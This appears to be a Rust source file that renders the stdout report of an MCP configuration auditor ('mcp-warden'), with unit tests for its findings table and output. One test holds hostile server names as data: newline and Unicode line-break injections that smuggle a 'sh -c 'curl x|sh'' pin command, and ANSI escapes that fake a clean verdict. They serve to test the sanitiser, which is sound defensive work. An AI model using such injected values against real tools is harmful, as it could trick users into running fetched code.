//! The human report on stdout.
//!
//! Order: the `MCP posture — …` header, one line per source, one sandbox line, then
//! either a one-line verdict or the findings table, then Next steps when a server
//! has no lock. Every config-derived string passes through [`safe_text`]. Colour is
//! ANSI SGR and only when [`TextStyle::color`] says so; the table is laid out for
//! [`TextStyle::width`] columns, while the Next steps lines are never wrapped.

use std::borrow::Cow;
use std::io::{self, IsTerminal, Write};

use unicode_width::UnicodeWidthChar;

use crate::model::Report;
use crate::render::next_steps::render_next_steps;
use crate::render::{flush_if_full, Targets, FLUSH_AT};
use crate::rules::Severity;
use crate::text::display;
use crate::text::safe_text::safe_text;

/// How the human report is drawn. The caller decides (a TTY and no `NO_COLOR`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TextStyle {
    /// Emit ANSI colour and bold.
    pub color: bool,
    /// Terminal width in columns for the findings table.
    pub width: usize,
}

impl Default for TextStyle {
    fn default() -> Self {
        TextStyle {
            color: false,
            width: DEFAULT_WIDTH,
        }
    }
}

/// Width used when stdout is not a terminal and `COLUMNS` is unset.
pub const DEFAULT_WIDTH: usize = 80;

impl TextStyle {
    /// The style for the process's stdout: colour when stdout is a terminal and
    /// `NO_COLOR` is unset or empty; width from the terminal, else `COLUMNS`, else 80.
    pub fn for_stdout() -> Self {
        let stdout = io::stdout();
        let tty = stdout.is_terminal();
        let no_color = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
        let width = terminal_size::terminal_size_of(&stdout)
            .map(|(w, _)| usize::from(w.0))
            .filter(|&w| w > 0)
            .or_else(|| {
                std::env::var("COLUMNS")
                    .ok()
                    .and_then(|c| c.trim().parse().ok())
            })
            .filter(|&w: &usize| w > 0)
            .unwrap_or(DEFAULT_WIDTH);
        TextStyle {
            color: tty && !no_color,
            width,
        }
    }
}

/// One header line naming the environment variables that moved a location
/// (`CLAUDE_CONFIG_DIR`, `CODEX_HOME`, …), so a reader knows which files were
/// searched instead of the defaults. Nothing when none did.
fn write_relocations(report: &Report, out: &mut dyn Write) -> io::Result<()> {
    if report.relocations.is_empty() {
        return Ok(());
    }
    let moved: Vec<String> = report
        .relocations
        .iter()
        .map(|(var, dir)| format!("{}={}", display(var), display(dir)))
        .collect();
    writeln!(out, "  locations moved by {}", moved.join(", "))
}

/// The line printed instead of a report when nothing was found to scan.
pub fn no_configs_line(searched: usize) -> String {
    format!("no MCP configs found (searched {searched} well-known location(s); pass --config to add one)")
}

/// Printed when there are no findings and every discovered config was read.
pub const CLEAN_LINE: &str = "doctor clean — every server is pinned and shows no posture findings";
/// Printed when there are no findings but a discovered config or a lock in the tree
/// was skipped (a symlink, not a regular file, oversized).
pub const SKIPPED_LINE: &str =
    "no posture findings, but at least one config or lock was skipped (see warnings)";
/// Printed when there are no findings but a discovered config or a lock could not be
/// read or examined.
pub const UNREADABLE_LINE: &str =
    "no posture findings in the files that could be read; at least one config or lock could not be read (see warnings)";

const BOLD: &str = "\x1b[1m";
const RED: &str = "\x1b[31m";
const YELLOW: &str = "\x1b[33m";
const GREEN: &str = "\x1b[32m";
const CYAN: &str = "\x1b[36m";
const RESET: &str = "\x1b[0m";

fn paint(style: TextStyle, sgr: &str, text: &str) -> String {
    if style.color && !sgr.is_empty() {
        format!("{sgr}{text}{RESET}")
    } else {
        text.to_string()
    }
}

fn severity_sgr(severity: Severity) -> &'static str {
    match severity {
        Severity::Critical | Severity::High => RED,
        Severity::Medium => YELLOW,
        Severity::Low => "",
    }
}

/// Append `text` padded to `width` columns, wrapped in `sgr` … reset when colour is
/// on (the padding inside, so a coloured cell keeps its width).
fn push_painted(buf: &mut String, style: TextStyle, sgr: &str, text: &str, width: usize) {
    let colored = style.color && !sgr.is_empty();
    if colored {
        buf.push_str(sgr);
    }
    push_padded(buf, text, width);
    if colored {
        buf.push_str(RESET);
    }
}

/// The severity cell, coloured by severity.
fn push_severity(buf: &mut String, style: TextStyle, severity: Severity, width: usize) {
    push_painted(buf, style, severity_sgr(severity), severity.as_str(), width);
}

/// Terminal columns taken by `s`: wide characters count 2, zero-width ones 0.
fn display_width(s: &str) -> usize {
    // Rendered text has passed `safe_text`, so ASCII is printable: one column each.
    if s.is_ascii() {
        return s.len();
    }
    s.chars().map(|c| c.width().unwrap_or(0)).sum()
}

/// Break `text` into lines of at most `width` columns, breaking after any of
/// `breaks` where possible (a break at a space drops the space) and inside a
/// piece when the piece alone is too long. Never returns an empty list. The lines
/// borrow from `text`: a report can hold tens of thousands of cells.
fn wrap_at<'t>(text: &'t str, width: usize, breaks: &[char]) -> Vec<&'t str> {
    let width = width.max(1);
    let total = display_width(text);
    if total <= width {
        return vec![text.trim_end_matches(' ')];
    }
    let mut lines = Vec::with_capacity(total / width + 2);
    // The current line is text[line_start..line_end], `line_w` columns wide.
    let mut line_start = 0;
    let mut line_end = 0;
    let mut line_w = 0usize;
    let mut piece_start = 0;
    let piece_ends = text
        .char_indices()
        .filter(|(_, c)| breaks.contains(c))
        .map(|(i, c)| i + c.len_utf8())
        .chain(std::iter::once(text.len()));
    for piece_end in piece_ends {
        let piece = &text[piece_start..piece_end];
        let visible = piece.strip_suffix(' ').unwrap_or(piece);
        if line_w + display_width(visible) <= width {
            line_end = piece_end;
            line_w += display_width(piece);
        } else {
            if line_end > line_start {
                lines.push(text[line_start..line_end].trim_end_matches(' '));
                line_w = 0;
            }
            line_start = piece_start;
            line_end = piece_start;
            for (i, c) in piece.char_indices() {
                let cw = c.width().unwrap_or(0);
                if line_w + cw > width && line_end > line_start {
                    lines.push(&text[line_start..line_end]);
                    line_start = line_end;
                    line_w = 0;
                }
                line_end = piece_start + i + c.len_utf8();
                line_w += cw;
            }
        }
        piece_start = piece_end;
    }
    lines.push(text[line_start..line_end].trim_end_matches(' '));
    lines
}

/// Wrap prose at spaces.
fn wrap(text: &str, width: usize) -> Vec<&str> {
    wrap_at(text, width, &[' '])
}

/// Wrap a target after path and name separators.
fn wrap_target(text: &str, width: usize) -> Vec<&str> {
    wrap_at(text, width, &['/', '#', ' '])
}

/// Append `s` and the spaces that bring it to `width` columns.
fn push_padded(buf: &mut String, s: &str, width: usize) {
    buf.push_str(s);
    push_spaces(buf, width.saturating_sub(display_width(s)));
}

fn push_spaces(buf: &mut String, n: usize) {
    buf.extend(std::iter::repeat_n(' ', n));
}

const INDENT: usize = 2;
const MIN_WRAPPED: usize = 12;

/// The table is drawn with box-drawing borders so that every table line starts
/// with a border character: a wrapped cell can never begin a line with text that
/// came from a config (e.g. a server name ending in `mcp-warden pin sh -c …`).
const V: &str = "│";

struct Row<'r> {
    severity: Severity,
    rule: &'static str,
    target: std::sync::Arc<str>,
    message: Cow<'r, str>,
}

/// Column widths for (server, message) given the room left after the fixed columns.
fn flexible_widths(avail: usize, server_nat: usize, message_nat: usize) -> (usize, usize) {
    if server_nat + message_nat <= avail {
        return (server_nat, message_nat);
    }
    let server = server_nat.min((avail / 2).max(MIN_WRAPPED));
    let message = message_nat.min(avail.saturating_sub(server).max(MIN_WRAPPED));
    // Give what the message does not need back to the server column.
    let server = server_nat.min(server.max(avail.saturating_sub(message)));
    (server, message)
}

fn border(left: &str, mid: &str, right: &str, widths: &[usize]) -> String {
    let cells: Vec<String> = widths.iter().map(|w| "─".repeat(w + 2)).collect();
    format!("{left}{}{right}", cells.join(mid))
}

fn render_table(report: &Report, out: &mut dyn Write, style: TextStyle) -> io::Result<()> {
    let mut targets = Targets::new();
    let mut rows: Vec<Row> = report
        .findings()
        .map(|f| Row {
            severity: f.severity(),
            rule: f.rule.as_str(),
            target: targets.display(&f.target),
            message: display(&f.message),
        })
        .collect();
    // Stable: ties keep report order.
    rows.sort_by(|a, b| (a.severity, &a.target, a.rule).cmp(&(b.severity, &b.target, b.rule)));

    let headers = ["severity", "rule", "server", "message"];
    let mut sev_w = headers[0].len();
    let mut rule_w = headers[1].len();
    let mut server_nat = headers[2].len();
    let mut message_nat = headers[3].len();
    for r in &rows {
        sev_w = sev_w.max(r.severity.as_str().len());
        rule_w = rule_w.max(r.rule.len());
        server_nat = server_nat.max(display_width(&r.target));
        message_nat = message_nat.max(display_width(&r.message));
    }
    // "│ " + sev + " │ " + rule + " │ " + server + " │ " + message + " │"
    let fixed = 13 + sev_w + rule_w;
    let avail = style.width.saturating_sub(fixed);

    let mut buf = String::with_capacity(2 * FLUSH_AT);
    push_painted(
        &mut buf,
        style,
        BOLD,
        &format!("Posture findings ({})", rows.len()),
        0,
    );
    buf.push('\n');
    if avail < 2 * MIN_WRAPPED {
        // Too narrow for four columns: server and message go under each row,
        // behind a border so no wrapped line starts with config text.
        let text_w = style.width.saturating_sub(INDENT + 2).max(MIN_WRAPPED);
        for row in &rows {
            buf.push_str("  ");
            push_severity(&mut buf, style, row.severity, sev_w);
            buf.push_str("  ");
            buf.push_str(row.rule);
            buf.push('\n');
            for line in wrap_target(&row.target, text_w)
                .into_iter()
                .chain(wrap(&row.message, text_w))
            {
                buf.push_str("  ");
                buf.push_str(V);
                buf.push(' ');
                buf.push_str(line);
                buf.push('\n');
            }
            flush_if_full(&mut buf, out)?;
        }
        return out.write_all(buf.as_bytes());
    }
    let (server_w, message_w) = flexible_widths(avail, server_nat, message_nat);
    let widths = [sev_w, rule_w, server_w, message_w];

    buf.push_str(&border("┌", "┬", "┐", &widths));
    buf.push('\n');
    buf.push_str(V);
    for (h, w) in headers.iter().zip(widths) {
        buf.push(' ');
        push_painted(&mut buf, style, BOLD, h, w);
        buf.push(' ');
        buf.push_str(V);
    }
    buf.push('\n');
    buf.push_str(&border("├", "┼", "┤", &widths));
    buf.push('\n');
    // Consecutive rows often share a message (one per rule): wrap it once.
    let mut last_message: Option<(&str, Vec<&str>)> = None;
    for row in &rows {
        let server_lines = wrap_target(&row.target, server_w);
        if last_message
            .as_ref()
            .is_none_or(|(text, _)| *text != &*row.message)
        {
            last_message = Some((&row.message, wrap(&row.message, message_w)));
        }
        let message_lines = last_message.as_ref().map_or(&[][..], |(_, l)| l.as_slice());
        let height = server_lines.len().max(message_lines.len());
        for i in 0..height {
            buf.push_str(V);
            buf.push(' ');
            if i == 0 {
                push_severity(&mut buf, style, row.severity, sev_w);
                buf.push(' ');
                buf.push_str(V);
                buf.push(' ');
                push_padded(&mut buf, row.rule, rule_w);
            } else {
                push_spaces(&mut buf, sev_w);
                buf.push(' ');
                buf.push_str(V);
                buf.push(' ');
                push_spaces(&mut buf, rule_w);
            }
            buf.push(' ');
            buf.push_str(V);
            buf.push(' ');
            push_padded(
                &mut buf,
                server_lines.get(i).copied().unwrap_or(""),
                server_w,
            );
            buf.push(' ');
            buf.push_str(V);
            buf.push(' ');
            push_padded(
                &mut buf,
                message_lines.get(i).copied().unwrap_or(""),
                message_w,
            );
            buf.push(' ');
            buf.push_str(V);
            buf.push('\n');
        }
        flush_if_full(&mut buf, out)?;
    }
    buf.push_str(&border("└", "┴", "┘", &widths));
    buf.push('\n');
    out.write_all(buf.as_bytes())
}

/// The findings' fix commands, each on a line of its own so it can be copied whole
/// (a table cell would wrap it).
fn render_fixes(report: &Report, out: &mut dyn Write) -> io::Result<()> {
    let mut fixes = report
        .findings()
        .filter_map(|f| f.fix.as_deref())
        .peekable();
    if fixes.peek().is_none() {
        return Ok(());
    }
    let mut buf = String::from(
        "\nLocks that match a server but are not approved — review each, then record the approval:\n",
    );
    for fix in fixes {
        buf.push_str("  ");
        buf.push_str(&display(fix));
        buf.push('\n');
        flush_if_full(&mut buf, out)?;
    }
    out.write_all(buf.as_bytes())
}

/// One header line per server of `servers` (`  <what>: <target>`), the first 20 of
/// them, then how many more.
fn list_targets<'s>(
    out: &mut dyn Write,
    servers: impl Iterator<Item = &'s crate::model::AuditedServer>,
    what: &str,
) -> io::Result<()> {
    const SHOWN: usize = 20;
    let mut count = 0usize;
    for server in servers {
        if count < SHOWN {
            writeln!(out, "  {what}: {}", display(&server.target))?;
        }
        count += 1;
    }
    if count > SHOWN {
        writeln!(out, "  … and {} more", count - SHOWN)?;
    }
    Ok(())
}

/// The header line saying, per client, how many servers would start (the
/// effective view's counts, [`crate::render::servers::header_counts`]).
fn write_start_counts(report: &Report, out: &mut dyn Write) -> io::Result<()> {
    let view = crate::parent::effective::compute(report);
    match crate::render::servers::header_counts(report, &view) {
        Some(line) => writeln!(out, "  {line}"),
        None => Ok(()),
    }
}

/// Write the human report for `report`.
pub fn render(report: &Report, out: &mut dyn Write, style: TextStyle) -> io::Result<()> {
    // Disabled servers (Codex `enabled = false`, JSON `disabled: true`) are audited
    // and listed, but never counted as running.
    let disabled = |n: usize| {
        if n == 0 {
            String::new()
        } else {
            format!(", {n} disabled")
        }
    };
    let total_disabled = report
        .servers
        .iter()
        .filter(|s| s.spec.origin.disabled)
        .count();
    writeln!(
        out,
        "{} — {} config source(s), {} server(s){}",
        paint(style, BOLD, "MCP posture"),
        report.sources.len(),
        report.servers.len(),
        disabled(total_disabled)
    )?;
    write_relocations(report, out)?;
    write_start_counts(report, out)?;
    // One pass over the servers: a ~/.claude.json can hold thousands of sources.
    let mut counts = vec![(0usize, 0usize); report.sources.len()];
    for server in &report.servers {
        if let Some((count, off)) = counts.get_mut(server.source) {
            *count += 1;
            *off += usize::from(server.spec.origin.disabled);
        }
    }
    for (source, (count, off)) in report.sources.iter().zip(&counts) {
        writeln!(
            out,
            "  {}  {}  ({count} server(s){})",
            paint(style, CYAN, &display(&source.client)),
            display(&source.label),
            disabled(*off)
        )?;
    }
    list_targets(
        out,
        report.servers.iter().filter(|s| s.spec.origin.disabled),
        "disabled in its file (audited, not counted as running)",
    )?;
    // `disabled: true` in a file whose clients do not honour it: it starts.
    list_targets(
        out,
        report
            .servers
            .iter()
            .filter(|s| !s.spec.origin.disabled && s.spec.declared.extra().disabled == Some(true)),
        "declares disabled: true, which some or all of its clients ignore (audited and counted as running)",
    )?;
    writeln!(out, "  parsed in a sandbox: {}", safe_text(&report.sandbox))?;

    if report.findings().next().is_none() {
        if report.hard_errors > 0 {
            writeln!(out, "{UNREADABLE_LINE}")?;
        } else if report.skipped > 0 {
            writeln!(out, "{SKIPPED_LINE}")?;
        } else {
            writeln!(
                out,
                "{} — {}",
                paint(style, GREEN, "doctor clean"),
                &CLEAN_LINE["doctor clean — ".len()..]
            )?;
        }
    } else {
        render_table(report, out, style)?;
        render_fixes(report, out)?;
    }

    if report.uncovered().next().is_some() {
        writeln!(out)?;
        render_next_steps(report, out)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{AuditedServer, Coverage, Finding, Source};
    use crate::render::jsonl::tests::worked_example;
    use crate::render::lock_names::assign_lock_names;

    fn render_string(r: &Report, style: TextStyle) -> String {
        let mut buf = Vec::new();
        render(r, &mut buf, style).unwrap_or_else(|e| panic!("{e}"));
        String::from_utf8(buf).unwrap_or_else(|e| panic!("{e}"))
    }

    fn plain(width: usize) -> TextStyle {
        TextStyle {
            color: false,
            width,
        }
    }

    fn covered_report() -> Report {
        Report {
            sources: vec![Source {
                client: "explicit".into(),
                label: "/work/mine.json".into(),
                path: "/work/mine.json".into(),
                scope: crate::model::Scope::Explicit,
                client_id: None,
                layer: crate::model::Layer::User,
                project_dir: None,
                settings: Vec::new(),
            }],
            servers: vec![AuditedServer {
                source: 0,
                name: "s".into(),
                target: "/work/mine.json#s".into(),
                spec: crate::engines::tests::spec_of(crate::protocol::ServerBody {
                    command: Some("python".into()),
                    ..crate::protocol::ServerBody::default()
                }),
                line: 1,
                column: 17,
                findings: vec![],
                coverage: Coverage::Approved,
                lock_name: None,
            }],
            sandbox: "landlock ABI 6, seccomp, no capabilities".into(),
            ..Report::default()
        }
    }

    const HEAD: &str = "MCP posture — 1 config source(s), 1 server(s)\n  --config (client not known): 1 server(s) would start\n  explicit  /work/mine.json  (1 server(s))\n  parsed in a sandbox: landlock ABI 6, seccomp, no capabilities\n";

    /// [`HEAD`] with the start counts saying what was not read.
    fn head_incomplete(what: &str) -> String {
        HEAD.replacen(
            "would start\n",
            &format!("would start (incomplete: {what} (each named in a warning); the servers and settings they hold are not counted)\n"),
            1,
        )
    }

    #[test]
    fn clean() {
        assert_eq!(
            render_string(&covered_report(), plain(80)),
            format!("{HEAD}doctor clean — every server is pinned and shows no posture findings\n")
        );
    }

    #[test]
    fn skipped_is_never_clean() {
        let r = Report {
            skipped: 1,
            ..covered_report()
        };
        assert_eq!(
            render_string(&r, plain(80)),
            format!(
                "{}{SKIPPED_LINE}\n",
                head_incomplete("1 file(s) were skipped unread")
            )
        );
        // Reference test 27/40 shape: nothing readable, one skip.
        let empty = Report {
            skipped: 1,
            sandbox: "seccomp".into(),
            ..Report::default()
        };
        assert_eq!(
            render_string(&empty, plain(80)),
            "MCP posture — 0 config source(s), 0 server(s)\n  parsed in a sandbox: seccomp\n\
             no posture findings, but at least one config or lock was skipped (see warnings)\n"
        );
    }

    #[test]
    fn hard_error_is_never_clean() {
        for (r, what) in [
            (
                Report {
                    hard_errors: 1,
                    ..covered_report()
                },
                "1 config file(s) or entries could not be read",
            ),
            (
                Report {
                    hard_errors: 2,
                    skipped: 1,
                    ..covered_report()
                },
                "2 config file(s) or entries could not be read and 1 file(s) were skipped unread",
            ),
        ] {
            let text = render_string(&r, plain(80));
            assert_eq!(
                text,
                format!("{}{UNREADABLE_LINE}\n", head_incomplete(what))
            );
            assert!(!text.contains("doctor clean") && !text.contains(SKIPPED_LINE));
        }
    }

    #[test]
    fn findings_golden_at_120_columns() {
        let mut r = worked_example();
        assign_lock_names(&mut r, &|_| false);
        let text = render_string(&r, plain(120));
        let expected = "\
MCP posture — 3 config source(s), 3 server(s)
  Claude Code: 1 server(s) would start; Claude Desktop: 1; Cursor: 1
  Claude Code  ~/.claude.json#projects[/repo]  (1 server(s))
  Cursor  ~/.cursor/mcp.json  (1 server(s))
  Claude Desktop  ~/Library/Application Support/Claude/claude_desktop_config.json  (1 server(s))
  parsed in a sandbox: landlock ABI 6, seccomp, no capabilities
Posture findings (8)
┌──────────┬──────────────────────────┬───────────────────────────────────────┬────────────────────────────────────────┐
│ severity │ rule                     │ server                                │ message                                │
├──────────┼──────────────────────────┼───────────────────────────────────────┼────────────────────────────────────────┤
│ critical │ WRD-SEC-GITHUB           │ ~/.cursor/mcp.json#gh                 │ WRD-SEC-GITHUB: possible secret in     │
│          │                          │                                       │ field                                  │
│ high     │ WRD-AUTH-TOKEN-IN-CONFIG │ ~/.cursor/mcp.json#gh                 │ auth key 'GITHUB_TOKEN' holds a        │
│          │                          │                                       │ literal credential in config;          │
│          │                          │                                       │ reference a secret manager (${VAR})    │
│          │                          │                                       │ instead                                │
│ high     │ WRD-SUP-NPX-UNPINNED     │ ~/.cursor/mcp.json#gh                 │ Unpinned npx package (resolves latest  │
│          │                          │                                       │ at run)                                │
│ high     │ WRD-AUTH-PLAINTEXT-HTTP  │ ~/Library/Application Support/Claude/ │ remote MCP endpoint 'mcp.example.com'  │
│          │                          │ claude_desktop_config.json#remote     │ uses cleartext http://; use https://   │
│ medium   │ WRD-AUTH-NOAUTH          │ ~/Library/Application Support/Claude/ │ remote MCP endpoint 'mcp.example.com'  │
│          │                          │ claude_desktop_config.json#remote     │ declares no authentication (no         │
│          │                          │                                       │ Authorization/token header or env)     │
│ low      │ WRD-DOCTOR-NO-LOCK       │ ~/.claude.json#projects[/repo]#ok     │ no warden.lock pins this server's      │
│          │                          │                                       │ declared surface; run the pin command  │
│          │                          │                                       │ below                                  │
│ low      │ WRD-DOCTOR-NO-LOCK       │ ~/.cursor/mcp.json#gh                 │ no warden.lock pins this server's      │
│          │                          │                                       │ declared surface; run the pin command  │
│          │                          │                                       │ below                                  │
│ low      │ WRD-DOCTOR-NO-LOCK       │ ~/Library/Application Support/Claude/ │ no warden.lock pins this server's      │
│          │                          │ claude_desktop_config.json#remote     │ declared surface; run the pin command  │
│          │                          │                                       │ below                                  │
└──────────┴──────────────────────────┴───────────────────────────────────────┴────────────────────────────────────────┘

Next steps — 3 server(s) have no warden.lock. Pin each once, commit the lock, then wire the check into CI:
  # '~/.claude.json#projects[/repo]#ok'
  mcp-warden pin --url https://h.example.com --header 'Authorization: Bearer ${T}' --approve --approver you@example.com --lock ok.warden.lock
  # '~/.cursor/mcp.json#gh'
  mcp-warden pin npx -y @modelcontextprotocol/server-github --env GITHUB_TOKEN --lock gh.warden.lock
  mcp-warden lock rotate gh.warden.lock --approver you@example.com
  # '~/Library/Application Support/Claude/claude_desktop_config.json#remote'
  mcp-warden pin --url http://mcp.example.com/sse --lock remote.warden.lock
  mcp-warden lock rotate remote.warden.lock --approver you@example.com
  (servers from a project or --config file, or with a critical or high finding, are pinned unapproved: review each lock, then run its lock rotate line)
  (env values and credentials are never printed: before running these lines, export each variable a line passes with --env or references as ${NAME} in a --header, set to the value the server's config gives it; pin and check stop with an error naming any that is unset)
";
        assert!(text.starts_with(expected), "got:\n{text}");
        assert!(text.ends_with("          mcp-warden check --url http://mcp.example.com/sse --lock remote.warden.lock\n"));
        for line in text.lines().take_while(|l| !l.starts_with("Next steps")) {
            assert!(display_width(line) <= 120, "too wide: {line}");
        }
        assert!(!text.contains('\x1b'));
    }

    #[test]
    fn table_fits_narrow_terminals_but_next_steps_never_wrap() {
        let mut r = worked_example();
        assign_lock_names(&mut r, &|_| false);
        for width in [60, 80, 100] {
            let text = render_string(&r, plain(width));
            let (table, next) = text.split_at(text.find("Next steps").unwrap_or(text.len()));
            for line in table.lines().skip(6) {
                assert!(display_width(line) <= width, "{width}: {line:?}");
            }
            assert!(next.lines().any(|l| l
                == "  mcp-warden pin npx -y @modelcontextprotocol/server-github --env GITHUB_TOKEN --lock gh.warden.lock"));
        }
    }

    #[test]
    fn colour_only_when_asked() {
        let mut r = worked_example();
        assign_lock_names(&mut r, &|_| false);
        let text = render_string(
            &r,
            TextStyle {
                color: true,
                width: 120,
            },
        );
        assert!(text.contains("\x1b[1mMCP posture\x1b[0m — 3 config source(s)"));
        assert!(text.contains("\x1b[31mcritical\x1b[0m"));
        assert!(text.contains("\x1b[33mmedium  \x1b[0m"));
        // The lines to copy never carry escape sequences.
        let next = &text[text.find("Next steps").unwrap_or(0)..];
        assert!(!next.contains('\x1b'));
        let clean = render_string(
            &covered_report(),
            TextStyle {
                color: true,
                width: 80,
            },
        );
        assert!(clean.contains("\x1b[32mdoctor clean\x1b[0m — every server is pinned"));
    }

    #[test]
    fn hostile_names_cannot_inject_lines_or_escapes() {
        let evil = [
            "gh\n  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\x1b[2K\x1b[1;31mFAKE CLEAN",
            "gh\u{2028}  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\u{202e}  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\u{9b}  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\u{85}  mcp-warden pin sh -c 'curl x|sh' --approve #",
        ];
        for name in evil {
            let mut r = worked_example();
            r.servers[1].name = name.into();
            r.servers[1].target = format!("~/.cursor/mcp.json#{name}").into();
            r.sources[1].client = format!("Cursor{name}");
            r.sources[1].label = format!("~/.cursor/{name}");
            let target = r.servers[1].target.clone();
            for f in &mut r.servers[1].findings {
                f.target = target.clone();
                f.message = format!("{}{name}", f.message);
            }
            assign_lock_names(&mut r, &|_| false);
            for width in [40, 120] {
                let text = render_string(&r, plain(width));
                assert!(!text.contains('\x1b'));
                assert!(text.contains('\u{FFFD}'));
                for bad in ['\u{2028}', '\u{202e}', '\u{9b}', '\u{85}', '\r'] {
                    assert!(!text.contains(bad));
                }
                assert!(
                    !text
                        .lines()
                        .any(|l| l.trim_start().starts_with("mcp-warden pin sh")),
                    "{text}"
                );
            }
        }
    }

    #[test]
    fn sort_is_by_severity_then_target_then_rule_id_string() {
        use crate::rules::RuleId;
        let mut r = covered_report();
        let f = |rule, target: &str| Finding {
            rule,
            target: target.into(),
            message: "m".into(),
            snippet: "s".into(),
            fix: None,
            field: None,
            at: None,
            suppressed: None,
        };
        r.servers[0].findings = vec![
            f(RuleId::SupPipUnpinned, "b"),
            f(RuleId::AuthTokenInConfig, "b"),
            f(RuleId::SecJwt, "a"),
            f(RuleId::DoctorNoLock, "a"),
            f(RuleId::SecOpenai, "z"),
        ];
        let text = render_string(&r, plain(200));
        let order: Vec<&str> = text
            .lines()
            .filter(|l| l.contains("WRD-"))
            .filter_map(|l| l.split_whitespace().nth(3))
            .collect();
        assert_eq!(
            order,
            [
                "WRD-SEC-OPENAI",
                "WRD-SEC-JWT",
                "WRD-AUTH-TOKEN-IN-CONFIG",
                "WRD-SUP-PIP-UNPINNED",
                "WRD-DOCTOR-NO-LOCK"
            ]
        );
    }

    #[test]
    fn wrap_rules() {
        assert_eq!(wrap("a bb ccc", 4), ["a bb", "ccc"]);
        assert_eq!(wrap("abcdefghij", 4), ["abcd", "efgh", "ij"]);
        assert_eq!(wrap("", 4), [""]);
        assert_eq!(wrap("日本語", 4), ["日本", "語"]);
        assert_eq!(wrap("日", 1), ["日"]);
    }

    #[test]
    fn no_configs() {
        assert_eq!(
            no_configs_line(9),
            "no MCP configs found (searched 9 well-known location(s); pass --config to add one)"
        );
    }
}
